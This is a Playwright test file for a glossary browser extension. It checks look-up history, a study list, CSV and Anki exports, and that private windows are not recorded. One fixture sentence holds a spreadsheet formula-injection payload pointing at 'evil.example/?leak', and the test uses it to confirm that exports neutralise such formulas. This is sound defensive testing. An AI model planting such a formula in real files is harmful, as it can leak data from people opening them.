import { chromium, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { resolve } from 'node:path';
import initSqlJs from 'sql.js';
import { checkGlossary } from '../../lib/glossary/check';
import { compileGlossary } from '../../lib/glossary/compile';
import { escapeHtml } from '../../lib/history/anki-notes';
import { formatDate } from '../../lib/history/export';
import { parseCsv } from '../../lib/user-glossary/csv';
import { chromiumPath } from '../../scripts/browser-path';
import { readGlossarySources } from '../../scripts/glossary-source';
import { EXTENSION_PATH, expect, test } from './fixtures';
import { downloadFrom, seriousA11y, storedHistory, storedStudy, walkInTab } from './history-support';
import { highlightedTexts, pointOf } from './support';

/*
 * Each hover below is one move of the pointer, then holding still: the card and the record
 * it leaves are waited for, never made to happen again.
 */

const { entries } = compileGlossary(checkGlossary(readGlossarySources()).glossary);
const short = (id: string): string => entries.find((e) => e.id === id)!.short;

/** The fixture's three terms, where each sits, and the sentence each must be kept with. */
const TERMS = [
  { id: 'optimistic-rollup', within: '#rollup', text: 'optimistic rollup', sentence: 'An optimistic rollup posts batches to layer 1 and waits out a challenge period before a withdrawal is final.' },
  { id: 'impermanent-loss', within: '#pool', text: 'impermanent loss', sentence: 'Providers in a liquidity pool earn fees, but impermanent loss eats into them when prices move apart.' },
  {
    id: 'funding-rate',
    within: '#formula',
    text: 'funding rate',
    // A page can put a spreadsheet formula in the text a reader hovers: the CSV must keep it as text.
    sentence: '=HYPERLINK("https://evil.example/?leak","click") says the page, and then the funding rate on the perpetual flips negative.',
  },
] as const;

const card = (page: Page) => page.locator('termlight-card [role="dialog"]');

async function restOn(page: Page, term: (typeof TERMS)[number]): Promise<void> {
  const { x, y } = await pointOf(page, term.within, term.text);
  await page.mouse.move(x, y);
  await expect(card(page)).toHaveAttribute('data-term-id', term.id, { timeout: 3000 });
}

test.describe('what I looked up', () => {
  test('records each card with its sentence, shows them in Recent, stars one, and exports CSV and Anki', async ({ context, page, serviceWorker, extensionId, fixtureUrl }) => {
    const url = `${fixtureUrl}/history-article.html`;
    await page.goto(url);
    await expect.poll(() => highlightedTexts(page)).toEqual(expect.arrayContaining(TERMS.map((t) => t.text)));
    for (const [i, term] of TERMS.entries()) {
      // Out into the margin between terms, so that no card lies over the next one.
      if (i > 0) {
        await page.mouse.move(5, 5);
        await expect(card(page)).toBeHidden();
      }
      await restOn(page, term);
    }

    await expect.poll(async () => (await storedHistory(serviceWorker)).map((e) => e.term)).toEqual(TERMS.map((t) => t.id));
    const history = await storedHistory(serviceWorker);
    expect(history.map((e) => [e.sentence, e.url, e.title, e.via])).toEqual(TERMS.map((t) => [t.sentence, url, 'Fixture: three terms to look up', 'hover']));
    expect(history.map((e) => e.sentence.slice(...e.span!))).toEqual(TERMS.map((t) => t.text));

    // The star on the card, still open on the last term.
    const star = card(page).getByRole('button', { name: 'Add to study list' });
    await expect(star).toHaveAttribute('aria-pressed', 'false');
    await star.click();
    await expect(star).toHaveAttribute('aria-pressed', 'true');
    await expect.poll(async () => (await storedStudy(serviceWorker)).terms.map((t) => t.id)).toEqual(['funding-rate']);

    const popup = await context.newPage();
    await popup.goto(`chrome-extension://${extensionId}/popup.html`);
    await popup.getByRole('tab', { name: 'Recent' }).click();
    const today = popup.getByRole('list', { name: 'Looked up today' });
    await expect(today.locator('.lookup')).toHaveCount(3);
    for (const term of TERMS) await expect(today.locator(`[data-term-id="${term.id}"] q`)).toHaveText(term.sentence);
    await expect(today.locator('[data-term-id="funding-rate"] .star')).toHaveAttribute('aria-pressed', 'true');
    await expect(popup.getByRole('button', { name: /^127\.0\.0\.1/ })).toContainText('3 terms');
    expect(await seriousA11y(popup)).toEqual([]);

    await popup.getByRole('tab', { name: 'Study' }).click();
    await expect(popup.getByRole('list', { name: 'Study list' }).locator('.lookup')).toHaveCount(1);
    expect(await seriousA11y(popup)).toEqual([]);
    const funding = history[2]!;
    const csv = await downloadFrom(popup, () => popup.getByRole('button', { name: 'Export the study list as CSV' }).click());
    expect(csv.name).toMatch(/^termlight-study-\d{4}-\d{2}-\d{2}\.csv$/);
    const { records, problems } = parseCsv(csv.bytes.toString('utf8'));
    expect(problems).toEqual([]);
    expect(records).toEqual([
      ['term', 'definition', 'sentence', 'url', 'date'],
      ['Funding rate', short('funding-rate'), `'${TERMS[2].sentence}`, url, formatDate(funding.at)],
    ]);

    const SQL = await initSqlJs();
    const notesOf = (apkg: Buffer): string[][] => {
      const db = new SQL.Database(unzipSync(new Uint8Array(apkg))['collection.anki2']);
      const [result] = db.exec('select flds from notes order by id');
      db.close();
      return (result?.values ?? []).map(([flds]) => String(flds).split('\x1f'));
    };
    const apkg = await downloadFrom(popup, () => popup.getByRole('button', { name: 'Export the study list for Anki' }).click());
    expect(apkg.name).toMatch(/^termlight-study-\d{4}-\d{2}-\d{2}\.apkg$/);
    expect(JSON.parse(strFromU8(unzipSync(new Uint8Array(apkg.bytes)).media!))).toEqual({});
    const [note] = notesOf(apkg.bytes);
    expect(note!.slice(0, 3)).toEqual([
      'Funding rate',
      '=HYPERLINK(&#34;https://evil.example/?leak&#34;,&#34;click&#34;) says the page, and then the <b>funding rate</b> on the perpetual flips negative.',
      escapeHtml(short('funding-rate')),
    ]);
    await expect(popup.getByRole('status')).toHaveText('Exported 1 note.');

    // The options page: every look-up, searchable, exported whole, then cleared.
    const options = await context.newPage();
    await options.goto(`chrome-extension://${extensionId}/options.html#history`);
    const looked = options.getByRole('list', { name: 'Look-ups, newest first' });
    await expect(looked.locator('.lookup')).toHaveCount(3);
    expect(await seriousA11y(options)).toEqual([]);
    await options.getByRole('searchbox', { name: 'Search your history and study list' }).fill('liquidity pool');
    await expect(looked.locator('.lookup')).toHaveCount(1);
    await expect(looked.locator('.lookup')).toHaveAttribute('data-term-id', 'impermanent-loss');
    await options.getByRole('searchbox', { name: 'Search your history and study list' }).fill('');
    const all = await downloadFrom(options, () => options.getByRole('button', { name: 'Export the history for Anki' }).click());
    expect(notesOf(all.bytes).map((f) => f[0])).toEqual(['Optimistic rollup', 'Impermanent loss', 'Funding rate']);
    await options.getByRole('button', { name: 'Clear history…' }).click();
    await options.getByRole('button', { name: 'Delete them' }).click();
    await expect(options.getByText('Nothing looked up yet.')).toBeVisible();
    expect(await storedHistory(serviceWorker)).toEqual([]);
    // The study list stays.
    expect((await storedStudy(serviceWorker)).terms.map((t) => t.id)).toEqual(['funding-rate']);
  });

  test('records nothing from a private window', async ({ fixtureUrl }) => {
    // Playwright's persistent context opens no private window of its own, and a browser
    // started with --load-extension keeps the extension out of private windows. So the
    // extension is loaded over the DevTools protocol with "allowed in private windows" on,
    // and the service worker opens a real private window: the content script runs there
    // and opens a card, and both of the extension's checks (the content script's
    // inIncognitoContext, the background's sender.tab.incognito) are exercised together.
    // tests/unit/history-service.test.ts holds the background's rule on its own.
    const context = await chromium.launchPersistentContext('', {
      executablePath: chromiumPath(),
      headless: true,
      ignoreDefaultArgs: ['--disable-extensions'],
      args: ['--enable-unsafe-extension-debugging'],
    });
    try {
      const cdp = await context.browser()!.newBrowserCDPSession();
      const { id } = await cdp.send('Extensions.loadUnpacked', { path: resolve(EXTENSION_PATH), enableInIncognito: true });
      const worker = context.serviceWorkers().find((w) => w.url().includes(id)) ?? (await context.waitForEvent('serviceworker', (w) => w.url().includes(id)));
      const privateUrl = `${fixtureUrl}/history-article.html?private`;
      const windowIncognito = await worker.evaluate(async (u) => {
        const { chrome } = globalThis as unknown as { chrome: { windows: { create(o: object): Promise<{ incognito: boolean }> } } };
        return (await chrome.windows.create({ incognito: true, url: u })).incognito;
      }, privateUrl);
      expect(windowIncognito).toBe(true);
      expect(await walkInTab(worker, privateUrl)).toBe(true);

      // The same card in an ordinary tab is recorded: the private one was not for want of a record.
      const page = await context.newPage();
      const ordinaryUrl = `${fixtureUrl}/history-article.html?ordinary`;
      await page.goto(ordinaryUrl);
      expect(await walkInTab(worker, ordinaryUrl)).toBe(true);
      await expect.poll(async () => (await storedHistory(worker)).length).toBeGreaterThan(0);
      expect((await storedHistory(worker)).map((e) => [e.url, e.via])).toEqual([[ordinaryUrl, 'keyboard']]);
    } finally {
      await context.close();
    }
  });
});
